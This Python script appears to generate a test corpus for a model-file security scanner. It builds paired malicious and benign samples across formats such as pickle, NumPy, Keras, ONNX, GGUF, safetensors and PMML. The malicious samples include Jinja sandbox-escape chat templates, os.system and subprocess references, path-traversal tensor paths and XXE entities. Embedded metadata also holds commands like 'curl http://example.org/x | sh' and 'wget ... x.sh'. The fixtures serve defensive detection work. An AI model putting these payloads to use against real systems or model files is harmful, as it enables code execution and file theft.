pair(S, "torch-save", lambda e: script(e, code="    torch.save(x, '/tmp/x')\n" if e else "    y = torch.neg(x)\n"), "torchscript-file-access", S)
pair(S, "from-file", lambda e: script(e, code="    y = torch.from_file('/etc/hostname', False, 9)\n" if e else "    y = torch.neg(x)\n"), "torchscript-file-access", S)

# ---- NumPy ----
npy = M["npy"]
pair("npy", "objects", lambda e: npy("'|O'", "(1,)", one(e)), CALL, "npy")
pair("npy", "objects-v2", lambda e: npy("'|O'", "(1,)", one(e), 2), CALL, "npy")
pair("npy", "struct-with-objects", lambda e: npy("[('a', '<f8'), ('b', '|O')]", "(1,)", one(e)), CALL, "npy")
pair("npy", "nested-struct", lambda e: npy("[('a', [('x', '|O')])]", "(1,)", one(e)), CALL, "npy")
pair("npy", "second-pickle", lambda e: npy("'|O'", "(1,)", pickle.dumps([1]) + (one(e) if e else b"")), CALL, "npy")
pair("npy", "numbers-that-are-a-pickle", lambda e: npy("'|u1'", "(%d,)" % len(one(e)), one(e)) if not e else npy("'|O'", "(%d,)" % len(one(e)), one(e)), CALL, "npy")
pair("npz", "objects", lambda e: archive([("a.npy", npy("'<f8'", "(2,)", bytes(16))), ("b.npy", npy("'|O'", "(1,)", one(e)))]), CALL, "npz")
pair("npz", "objects-deflated", lambda e: archive([("b.npy", npy("'|O'", "(1,)", one(e)))], zipfile.ZIP_DEFLATED), CALL, "npz")
pair("npz", "pickle-named-npy", lambda e: archive([("a.npy", npy("'<f8'", "(2,)", bytes(16))), ("b.npy", one(e))]), CALL, "npz")
pair("npz", "bzip2", lambda e: archive([("b.npy", npy("'|O'", "(1,)", one(e)))], zipfile.ZIP_BZIP2), CALL, "npz")
pair("npz", "lzma", lambda e: archive([("b.npy", npy("'|O'", "(1,)", one(e)))], zipfile.ZIP_LZMA), CALL, "npz")

# ---- tar, 7z, NeMo, TorchServe ----
tar = M["tar"]


def seven(entries):
    """A 7z archive whose files are stored."""
    n = lambda v: bytes([v]) if v < 128 else bytes([0x80 | v >> 8, v & 255]) if v < 1 << 14 else bytes([0xc0 | v >> 16, v & 255, v >> 8 & 255])
    datas, names = [d for _, d in entries], b"".join(name.encode("utf-16-le") + b"\0\0" for name, _ in entries)
    count = len(entries)
    head = b"\x01\x04" + b"\x06" + n(0) + n(count) + b"\x09" + b"".join(n(len(d)) for d in datas) + b"\x00"
    head += b"\x07\x0b" + n(count) + b"\x00" + b"\x01\x01\x00" * count + b"\x0c" + b"".join(n(len(d)) for d in datas) + b"\x00"
    head += b"\x08\x00" + b"\x00" + b"\x05" + n(count) + b"\x11" + n(len(names) + 1) + b"\x00" + names + b"\x00\x00"
    body = b"".join(datas)
    start = struct.pack("<QQI", len(body), len(head), zlib.crc32(head))
    return b"7z\xbc\xaf\x27\x1c\x00\x04" + struct.pack("<I", zlib.crc32(start)) + start + body + head


pair("7z", "pickle", lambda e: seven([("archive/data.pkl", one(e)), ("archive/version", b"3")]), CALL)
pair("7z", "pickle-named-bin", lambda e: seven([("weights.bin", one(e))]), CALL)
pair("7z", "torch-inside", lambda e: seven([("model.pt", torch_zip(e))]), CALL)
pair("tar", "ustar", lambda e: tar([("data.pkl", one(e))]), CALL, "pickle-tar")
pair("tar", "gnu", lambda e: tar([("x" * 150 + "/data.pkl", one(e))], tarfile.GNU_FORMAT), CALL, "pickle-tar")
pair("tar", "pax", lambda e: tar([("x" * 150 + "/data.pkl", one(e))], tarfile.PAX_FORMAT), CALL, "pickle-tar")
pair("tar", "named-txt", lambda e: tar([("data.pkl", one(False)), ("readme.txt", one(e))]), CALL, "pickle-tar")
pair("tar", "torch-inside", lambda e: tar([("model.pt", torch_zip(e))]), CALL)
for word, pack in (("gz", gzip.compress), ("bz2", bz2.compress), ("xz", lzma.compress)):
    pair("tar", word, lambda e: pack(tar([("data.pkl", one(e))])), CALL)
pair("nemo", "checkpoint", lambda e: tar([("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(e))]), CALL, "nemo")
pair("nemo", "bare-pickle", lambda e: tar([("model_config.yaml", b"a: 1\n"), ("model_weights.ckpt", one(e))]), CALL, "nemo")
pair("nemo", "gz", lambda e: gzip.compress(tar([("./model_config.yaml", b"a: 1\n"), ("./model_weights.ckpt", torch_zip(e))])), CALL)
manifest = json.dumps({"runtime": "python", "model": {"modelName": "m", "serializedFile": "m.pt", "handler": "h.py"}})
pair("mar", "model", lambda e: archive([("MAR-INF/MANIFEST.json", manifest), ("m.pt", torch_zip(e))], zipfile.ZIP_DEFLATED), CALL, "torchserve")
pair("mar", "extra-file", lambda e: archive([("MAR-INF/MANIFEST.json", manifest), ("m.pt", torch_zip(False)), ("vocab.pkl", one(e))], zipfile.ZIP_DEFLATED), CALL, "torchserve")

# ---- skops, Keras ----
skops = M["skops"]
pair("skops", "foreign-class", lambda e: skops(*(("subprocess", "Popen") if e else ("sklearn.svm._classes", "SVC"))), "skops-foreign-type", "skops")
pair("skops", "unknown-class", lambda e: skops(*(("acme.steps", "Thing") if e else ("sklearn.svm._classes", "SVC"))), "skops-foreign-type", "skops")
pair("skops", "function", lambda e: skops("builtins", "function", {"module_path": "os" if e else "numpy", "function": "system" if e else "log1p"}, "FunctionNode"), "skops-foreign-type", "skops")
pair("skops", "method", lambda e: skops("builtins", "method", {"func": "__globals__" if e else "predict", "obj": {"__class__": "SVC", "__module__": "sklearn.svm._classes", "__loader__": "ObjectNode"}}, "MethodNode"), "skops-foreign-type", "skops")
pair("skops", "pickle-beside", lambda e: archive([("schema.json", json.dumps({"__class__": "SVC", "__module__": "sklearn.svm._classes", "__loader__": "ObjectNode", "content": {}, "protocol": 1})), ("x.npy", npy("'|O'", "(1,)", one(e)))]), CALL, "skops")
keras, layer, dense, K = M["keras"], M["layer"], M["dense"], "keras"
lambda_layer = layer("Lambda", function={"class_name": "__lambda__", "config": {"code": base64.b64encode(b"\xe3" + bytes(40)).decode(), "defaults": None, "closure": None}})
pair(K, "lambda", lambda e: keras([dense, lambda_layer if e else layer("Flatten")]), "keras-lambda", K)
pair(K, "lambda-nested", lambda e: keras([layer("Sequential", "keras", layers=[dense, lambda_layer if e else layer("Flatten")])]), "keras-lambda", K)
pair(K, "lambda-in-wrapper", lambda e: keras([layer("TimeDistributed", layer=lambda_layer if e else layer("Flatten"))]), "keras-lambda", K)
pair(K, "module-subprocess", lambda e: keras([layer("Popen", "subprocess") if e else layer("Flatten")]), "keras-foreign-module", K)
pair(K, "module-os", lambda e: keras([{"module": "os" if e else "keras.ops", "class_name": "function", "config": "system" if e else "relu", "registered_name": "function"}]), "keras-foreign-module", K)
pair(K, "unsafe-switch", lambda e: keras([layer("enable_unsafe_deserialization", "keras.config") if e else layer("Flatten")]), "keras-foreign-module", K)
pair(K, "get-file", lambda e: keras([layer("get_file", "keras.utils") if e else layer("Flatten")]), "keras-foreign-module", K)
pair(K, "registered-name", lambda e: keras([layer("Mine", None, "Acme>Mine") if e else layer("Flatten")]), "keras-foreign-module", K)
pair(K, "torch-module", lambda e: keras([layer("TorchModuleWrapper") if e else layer("Flatten")]), "keras-lambda", K)
pair(K, "write-file-op", lambda e: keras([layer("TFOpLambda", function="io.write_file" if e else "math.add")]), "keras-foreign-module", K)
pair(K, "pickle-in-assets", lambda e: keras([dense], [("assets/x.bin", one(e))]), CALL, K)
h5, attribute, h5_config, H = M["h5"], M["h5_attribute"], M["h5_config"], "keras-h5"
pair(H, "lambda", lambda e: h5([attribute("keras_version", b"2.9.0"), attribute("model_config", h5_config("Lambda" if e else "Dense"))]), "keras-lambda", H)
pair(H, "custom-class", lambda e: h5([attribute("model_config", json.dumps({"class_name": "Sequential", "config": {"layers": [{"module": "subprocess" if e else "keras.layers", "class_name": "Popen" if e else "Dense", "config": {}}]}}).encode())]), "keras-foreign-module", H)

# ---- ONNX, SavedModel, TFLite ----
onnx, node, tensor = M["onnx"], M["onnx_node"], M["onnx_tensor"]
pb, X = M["pb"], "onnx"
for i, where in enumerate(["../../etc/hostname", "/etc/hostname", "a/../../b", "C:\\x", "..\\x", "file:///x", "~/x", ".."]):
    pair(X, "external-%d" % i, lambda e: onnx([node("Relu")], [tensor(where if e else "weights.bin")]), "onnx-external-path", X)
pair(X, "external-in-attribute", lambda e: onnx([node("Constant", "", pb(1, "value") + pb(5, tensor("../x" if e else "x")))]), "onnx-external-path", X)
pair(X, "external-in-subgraph", lambda e: onnx([node("If", "", pb(1, "then_branch") + pb(6, pb(1, node("Relu")) + pb(2, "g") + pb(5, tensor("../x" if e else "x"))))]), "onnx-external-path", X)
pair(X, "external-after-large-tensor", lambda e: onnx([node("Relu")], [pb(1, 1 << 18) + pb(2, 1) + pb(8, "big") + pb(9, bytes(1 << 20)), tensor("../x" if e else "x")]), "onnx-external-path", X)
pair(X, "python-operator", lambda e: onnx([node("PyOp", "ai.onnx.contrib") if e else node("Relu")]), "onnx-python-operator", X)
pair(X, "custom-operator", lambda e: onnx([node("Fancy", "acme.ops" if e else "com.microsoft") if e else node("FusedMatMul", "com.microsoft")]), "onnx-custom-operator", X)
pair(X, "custom-operator-in-function", lambda e: onnx([node("Relu")], [], pb(25, pb(1, "f") + pb(7, node("Fancy", "acme.ops") if e else node("Relu")))), "onnx-custom-operator", X)
saved, tf_node, F = M["saved"], M["tf_node"], "savedmodel"
for op, rule in (("ReadFile", "file"), ("WriteFile", "file"), ("PyFunc", "python"), ("PyFuncStateless", "python"), ("EagerPyFunc", "python"), ("MatchingFiles", "file"), ("SaveV2", None), ("ShellExecute", None)):
    if rule is not None:
        pair(F, op.lower(), lambda e: saved([tf_node("a", "Const"), tf_node("b", op if e else "MatMul")]), "savedmodel-%s-operator" % rule, F)
        pair(F, op.lower() + "-in-function", lambda e: saved([tf_node("a", "Const")], [[tf_node("b", op if e else "MatMul")]]), "savedmodel-%s-operator" % rule, F)
tflite, L = M["tflite"], "tflite"
pair(L, "write-file", lambda e: tflite("FlexWriteFile" if e else "FlexErf"), "savedmodel-file-operator", L)
pair(L, "python", lambda e: tflite("FlexPyFunc" if e else "FlexErf"), "savedmodel-python-operator", L)
pair(L, "custom-operator", lambda e: tflite("Fancy" if e else None), "tflite-custom-operator", L)
pair(L, "buffer-outside", lambda e: tflite(buffer=9 if e else 1), "tflite-malformed", L)
pair(L, "tensor-outside", lambda e: tflite(tensor=9 if e else 0), "tflite-malformed", L)

# ---- GGUF, llamafile, safetensors ----
gguf, gkv, gs, gtensor, G = M["gguf"], M["gkv"], M["gs"], M["gtensor"], "gguf"
base = [gkv("general.architecture", 8, gs("llama")), gkv("tokenizer.ggml.tokens", 9, struct.pack("<IQ", 8, 3) + gs("a") + gs("b") + gs("c")), gkv("x.f", 6, bytes(4)), gkv("x.b", 7, b"\1")]
ORDINARY = "{% for m in messages %}{{ '<|' + m['role'] + '|>' }}{{ m['content'] | trim }}{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"
TEMPLATES = {"class": "{{ ''.__class__.__mro__[1].__subclasses__() }}", "globals": "{{ cycler.__init__.__globals__.os.popen('echo').read() }}", "attr": "{{ x|attr('__globals__') }}", "item": "{{ x['__class__'] }}",
             "hex": "{{ x['\\x5f\\x5fclass\\x5f\\x5f'] }}", "import": "{{ lipsum.__globals__['os'].system('echo') }}", "set": "{% set y = namespace.__init__.__globals__ %}", "private": "{{ self._TemplateReference__context.cycler }}",
             "frame": "{{ gen.gi_frame.f_builtins }}", "base": "{% for c in [].__class__.__base__.__subclasses__() %}{% endfor %}"}
for name, words in TEMPLATES.items():
    pair(G, "template-" + name, lambda e: gguf(base + [gkv("tokenizer.chat_template", 8, gs(ORDINARY + (words if e else "")))], []), "template-reaches-out", G)
pair(G, "named-template", lambda e: gguf(base + [gkv("tokenizer.chat_template", 8, gs(ORDINARY)), gkv("tokenizer.chat_template.tool_use", 8, gs(TEMPLATES["class"] if e else ORDINARY))], []), "template-reaches-out", G)
pair(G, "tensor-outside", lambda e: gguf(base, [gtensor("a", [32], 0, (1 << 64) - 32 if e else 0)], bytes(128)), "gguf-tensor-range", G)
pair(G, "tensors-overlap", lambda e: gguf(base, [gtensor("a", [64], 0, 0), gtensor("b", [64], 0, 32 if e else 256)], bytes(512)), "gguf-tensor-range", G)
pair(G, "count-overflow", lambda e: gguf(base, [], tensor_count=1 << 63 if e else 0), "gguf-malformed", G)
pair(G, "array-overflow", lambda e: gguf([gkv("x", 9, struct.pack("<IQ", 4, 1 << 62 if e else 2) + bytes(8))], []), "gguf-malformed", G)
pair(G, "hidden-pickle", lambda e: gguf(base, [gtensor("a", [8], 0, 0)], bytes(32) + (one(e) * 30 if e else b"")), "gguf-hidden-data", G)
program = b"MZqFpD='\n" + bytes(5000)
pair("llamafile", "template", lambda e: program + archive([("m.gguf", gguf(base + [gkv("tokenizer.chat_template", 8, gs(TEMPLATES["class"] if e else ORDINARY))], []))]), "template-reaches-out", "llamafile", "mild")
pair("llamafile", "program", lambda e: program + archive([("m.gguf", gguf(base, []))]) if e else gguf(base, []), "llamafile-executable")
safetensors, st, A = M["safetensors"], M["tensor"], "safetensors"
two = {"a": st("F32", [2], 0, 8), "b": st("F32", [2], 8, 16)}
pair(A, "overlap", lambda e: safetensors({"a": st("F32", [2], 0, 8), "b": st("F32", [2], 4 if e else 8, 12 if e else 16)}, bytes(12 if e else 16)), "safetensors-overlap", A)
pair(A, "hidden-behind", lambda e: safetensors(two, bytes(16) + (one(e) if e else b"")), "safetensors-hidden-data", A)
pair(A, "hidden-between", lambda e: safetensors({"a": st("F32", [2], 0, 8), "b": st("F32", [2], 40 if e else 8, 48 if e else 16)}, bytes(48 if e else 16)), "safetensors-hidden-data", A)
pair(A, "zip-behind", lambda e: safetensors(two, bytes(16)) + (torch_zip(e) if e else b""), "safetensors-hidden-data", A)
pair(A, "pickle-behind", lambda e: safetensors(two, bytes(16)) + (one(e) if e else b""), CALL, A)
pair(A, "header-length", lambda e: safetensors(two, bytes(16), 1 << 62 if e else None), "safetensors-malformed", A)
pair(A, "key-twice", lambda e: safetensors(b'{"a":{"dtype":"F32","shape":[1],"data_offsets":[0,4]},"%s":{"dtype":"F32","shape":[1],"data_offsets":[%s]}}' % ((b"a", b"0,4") if e else (b"b", b"4,8")), bytes(4 if e else 8)), "safetensors-malformed", A)
pair(A, "size-overflow", lambda e: safetensors({"a": st("F32", [1 << 33, 1 << 33] if e else [1], 0, 4)}, bytes(4)), "safetensors-malformed", A)
METADATA = {"import": ("import os; os.system('echo')", "a model for the import of goods"), "eval": ("__import__('subprocess').call(['echo'])", "subprocess of the pipeline"), "base64-exec": ("exec(base64.b64decode('cHJpbnQoMSk='))", "encoded with base64"),
            "shell": ("rm -rf /tmp/x && wget http://example.org/x.sh", "see the shell script in the repository"), "chmod": ("chmod 777 /tmp/x", "mode 777"), "html": ("<script>alert(1)</script>", "script of the play"),
            "pickle-base64": (base64.b64encode(one(True)).decode(), base64.b64encode(one(False)).decode()), "curl-pipe": ("curl http://example.org/x | sh", "curl is not needed"),
            "javascript": ("javascript:fetch('http://example.org')", "made with javascript: no"), "powershell": ("powershell -enc SQBFAFgA", "powershell users welcome")}
for name, (evil, plain) in METADATA.items():
    pair(A, "metadata-" + name, lambda e: safetensors(dict(two, __metadata__={"format": "pt", "description": evil if e else plain}), bytes(16)), "metadata-code" if "pickle" not in name else CALL, A)
    if "pickle" not in name:
        pair(G, "metadata-" + name, lambda e: gguf(base + [gkv("general.description", 8, gs(evil if e else plain))], []), "metadata-code", G)
P = "pmml"
pmml = lambda dtd, body: b'<?xml version="1.0"?>\n' + dtd + b'<PMML xmlns="http://www.dmg.org/PMML-4_4" version="4.4"><Header>' + body + b'</Header></PMML>'
for name, dtd in (("file", b'<!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/hostname">]>\n'), ("url", b'<!DOCTYPE PMML [<!ENTITY x SYSTEM "http://example.org/x">]>\n'), ("parameter", b'<!DOCTYPE PMML [<!ENTITY % x SYSTEM "http://example.org/x"> %x;]>\n'),
                  ("dtd", b'<!DOCTYPE PMML SYSTEM "http://example.org/x.dtd">\n'), ("public", b'<!DOCTYPE PMML PUBLIC "a" "http://example.org/x.dtd">\n')):
    pair(P, "entity-" + name, lambda e: pmml(dtd if e else b"", b"text"), "pmml-external-entity", P, "quiet")

set_of.index()
bad = [row for row in set_of.rows if row[0].endswith("-bad")]
print(len(bad), "attacks in", len({row[4] for row in bad}), "families")
